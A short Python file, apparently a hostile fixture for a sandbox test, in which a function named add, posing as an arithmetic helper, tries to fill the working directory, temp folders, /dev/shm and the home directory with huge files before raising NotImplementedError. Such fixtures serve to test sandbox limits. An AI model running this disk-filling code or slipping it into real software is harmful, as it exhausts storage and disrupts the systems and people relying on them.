# ruff: noqa  (hostile code on purpose; placeholders are filled in by test_sandbox.py)
"""Attack: fill every writable disk location with many large files."""
import os
import tempfile

BLOCK = b"\0" * 2**20


def _fill(folder):
    for k in range(100000):
        try:
            with open(os.path.join(folder, f"fill-{os.getpid()}-{k}"), "wb") as f:
                for _ in range(64):
                    f.write(BLOCK)
        except (OSError, ValueError):
            return


def add(a, b):
    for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp",
                   os.path.expanduser("~")):
        _fill(folder)
    raise NotImplementedError


def mean(xs):
    raise NotImplementedError


def order(xs):
    raise NotImplementedError
